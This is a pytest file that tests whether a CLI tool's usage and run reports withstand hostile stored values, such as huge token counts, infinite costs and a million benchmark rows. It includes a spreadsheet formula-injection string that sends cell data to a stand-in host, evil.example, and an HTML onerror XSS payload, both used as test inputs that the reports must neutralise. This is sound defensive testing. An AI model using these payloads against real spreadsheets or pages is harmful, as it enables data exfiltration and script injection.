"""Every report survives hostile values: a provider's token count of 401 digits, a price that makes the
cost infinite, a model named like a spreadsheet formula or like HTML, a benchmark of a million tasks.
Each through the real `ccs` command, over state written as a run (and a provider) would leave it."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

LID = "20260101T000000Z-aaaaaaaa"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKUP = "<img src=x onerror=alert(1)>|pipe\nnewline"


def strict_json(text: str) -> dict:
    """JSON as any other parser reads it: no Infinity, no NaN."""
    def refuse(name: str) -> None:
        raise AssertionError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


@pytest.fixture
def runs(ccs_home) -> Path:
    d = Path(os.environ["CCS_HOME"]) / "state" / "runs"
    d.mkdir(parents=True)
    (Path(os.environ["CCS_HOME"]) / "profiles").mkdir(parents=True)
    return d


def put_run(runs: Path, records: list[dict], lid: str = LID, label: str = "L", summary: bool = True,
            results: dict | None = None) -> None:
    """A finished recorded run: its records file and its manifest (with the summary ccs writes at the end)."""
    from ccswitch_tui.bridge.records import summarize

    (runs / f"{lid}.requests.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    m = {"launch_id": lid, "profile": "p", "tool": "run", "started": "2026-01-01T00:00:00Z",
         "ended": "2026-01-01T00:01:00Z", "exit_status": 0, "label": label, "key_fingerprint": "fp:1",
         "base_urls": {"OPENAI_BASE_URL": "https://gw.example/v1"}, "models": {},
         "recording": {"records": f"{lid}.requests.jsonl"}, "outcomes": {"results": results or {"a": 1.0}}}
    if summary:
        m["requests"] = summarize(records)
    (runs / f"{lid}.json").write_text(json.dumps(m))


def record(**kw) -> dict:
    base = {"id": 1, "started": "2026-01-01T00:00:01.000000Z", "method": "POST", "path": "/chat/completions",
            "upstream_url": "https://gw.example/v1/chat/completions", "model_requested": "gpt-4.1",
            "model_served": "gpt-4.1", "status": 200, "outcome": "ok", "input_tokens": 100, "output_tokens": 10}
    return base | kw


def price(runs: Path, input_price: str) -> None:
    (runs.parent.parent / "profiles" / "p.toml").write_text(
        'schema = 1\n[provider]\nname = "x"\nbase_url = "https://gw.example/v1"\nkey = "env:K"\n'
        '[run]\nexport = ["openai"]\n'
        f'[pricing]\n"gpt-4.1" = {{ input = {input_price}, output = 1.0 }}\n')


@pytest.mark.parametrize("summary", [True, False], ids=["finished", "streamed"])
def test_a_401_digit_token_count(ccs, runs, summary):
    """Every usage view and the rounds report answer; the count is left out and said so."""
    put_run(runs, [record(input_tokens=10**400), record(id=2, input_tokens=7)], summary=summary)
    price(runs, "2.0")
    for by in ("profile", "model", "day", "label"):
        for fmt in ((), ("--json",), ("--csv",)):
            r = ccs("usage", "--by", by, *fmt)
            assert r.returncode == 0 and "Traceback" not in r.stderr, (by, fmt, r.stderr)
    u = strict_json(ccs("usage", "--json").stdout)
    assert u["totals"]["input_tokens"] == 7 and u["totals"]["implausible_tokens"] == 1
    assert u["totals"]["cost"] == pytest.approx((7 * 2.0 + 20 * 1.0) / 1e6)
    assert "1 request(s) reported a token count no request can use" in ccs("usage").stdout
    r = ccs("runs", "report", "--rounds", "L", "--json")
    assert r.returncode == 0, r.stderr
    (row,) = strict_json(r.stdout)["rounds"]
    assert row["tokens_per_request"] is None or row["tokens_per_request"] < 10**6
    assert any("implausible" in n for n in row["notes"])
    for fmt in ((), ("--md",), ("--csv",), ("--wide",)):
        assert ccs("runs", "report", "--rounds", "L", *fmt).returncode == 0
    r = ccs("runs", "report", "--label", "L", "--json")
    assert r.returncode == 0 and strict_json(r.stdout)["rows"][0]["input_tokens"] in (None, 7)


def test_an_infinite_cost(ccs, runs):
    """10^30 tokens at a price [pricing] accepts (1e300): never "Infinity"; the cost is marked implausible."""
    put_run(runs, [record(input_tokens=10**30), record(id=2, input_tokens=10**9)])
    price(runs, "1e300")
    u = strict_json(ccs("usage", "--json").stdout)
    assert u["totals"]["cost"] is None and u["totals"]["cost_implausible"] is True
    assert u["totals"]["implausible_tokens"] == 1 and u["totals"]["input_tokens"] == 10**9
    out = ccs("usage").stdout
    assert "implausible" in out.splitlines()[1] and "past any real bill" in out
    assert "inf" not in ccs("usage", "--csv").stdout


def test_formula_cells_are_text_in_every_csv(ccs, runs):
    put_run(runs, [record(model_served=FORMULA), record(id=2, model_served="+1-1", model_requested="@SUM(A1)")],
            label="-2+3")
    rows = list(csv.reader(io.StringIO(ccs("usage", "--by", "model", "--csv").stdout)))
    assert {r[0] for r in rows[1:]} == {"'" + FORMULA, "'+1-1"}
    report = list(csv.reader(io.StringIO(ccs("runs", "report", "--label", "-2+3", "--csv").stdout)))
    assert all(not c.startswith(("=", "+", "-", "@")) for row in report[1:] for c in row)
    assert "'-2+3" in report[1] and any(c.startswith("'@SUM") or c.startswith("'+1-1") for c in report[1])
    rounds = list(csv.reader(io.StringIO(ccs("runs", "report", "--csv", "--rounds", "--", "-2+3").stdout)))
    assert rounds[1][0] == "'-2+3" and all(not c.startswith(("=", "+", "-", "@")) for c in rounds[1])
    served = rounds[1][rounds[0].index("models_served")]
    assert served.startswith("'+1-1") and FORMULA in served


def test_markdown_cells_stay_cells(ccs, runs):
    put_run(runs, [record(model_served=MARKUP)], label="a|b<i>")
    for args in (("--label", "a|b<i>"), ("--rounds", "a|b<i>")):
        md = ccs("runs", "report", *args, "--md").stdout
        table = [x for x in md.splitlines() if x.startswith("|")]
        assert "<img" not in md and "<i>" not in md and "&lt;img src=x onerror=alert(1)>" in md
        assert "a\\|b&lt;i>" in md and "\\|pipe newline" in md
        # Every row has as many cells as the header: no pipe or newline split one.
        counts = {len(x.replace("\\|", "").split("|")) for x in table}
        assert len(counts) == 1, table


def test_a_million_outcome_rows_keep_the_run(ccs, runs, tmp_path):
    """`runs attach` with 1M rows: the manifest stays small, the run stays in every report."""
    m = {"launch_id": LID, "profile": "p", "tool": "run", "started": "2026-01-01T00:00:00Z",
         "ended": "2026-01-01T00:01:00Z", "exit_status": 0, "label": "big"}
    (runs / f"{LID}.json").write_text(json.dumps(m))
    big = tmp_path / "out.csv"
    big.write_text("task_id,success\n" + "".join(f"t{i},{'true' if i % 4 else 'false'}\n" for i in range(10**6)))
    r = ccs("runs", "attach", LID, str(big), timeout=300)
    assert r.returncode == 0 and "1000000 task results (750000 solved)" in r.stdout, r.stderr
    assert (runs / f"{LID}.json").stat().st_size < 4096
    assert [x["launch_id"] for x in json.loads(ccs("runs", "--json").stdout)["runs"]] == [LID]
    (row,) = json.loads(ccs("runs", "report", "--rounds", "big", "--json", timeout=300).stdout)["rounds"]
    assert (row["tasks"], row["pass_at_1"], row["matrix"]["tasks_left_out"]) == (10**6, 75.0, 10**6 - 1000)


def test_an_earlier_manifest_with_many_inline_outcomes_is_read(ccs, runs):
    """Before outcomes moved beside the manifest, a manifest held them inline: one of 9 MiB still counts."""
    results = {f"task-{i:07d}": float(i % 2) for i in range(400_000)}
    m = {"launch_id": LID, "profile": "p", "tool": "run", "started": "2026-01-01T00:00:00Z",
         "ended": "2026-01-01T00:01:00Z", "exit_status": 0, "label": "old",
         "outcomes": {"source": "r.jsonl", "tasks": len(results), "passed": 200_000, "results": results}}
    (runs / f"{LID}.json").write_text(json.dumps(m))
    assert (runs / f"{LID}.json").stat().st_size > 8 * 1024 * 1024
    r = ccs("runs", "report", "--rounds", "old", "--json")
    assert r.returncode == 0 and r.stderr == "", r.stderr
    (row,) = json.loads(r.stdout)["rounds"]
    assert (row["tasks"], row["pass_at_1"]) == (400_000, 50.0)
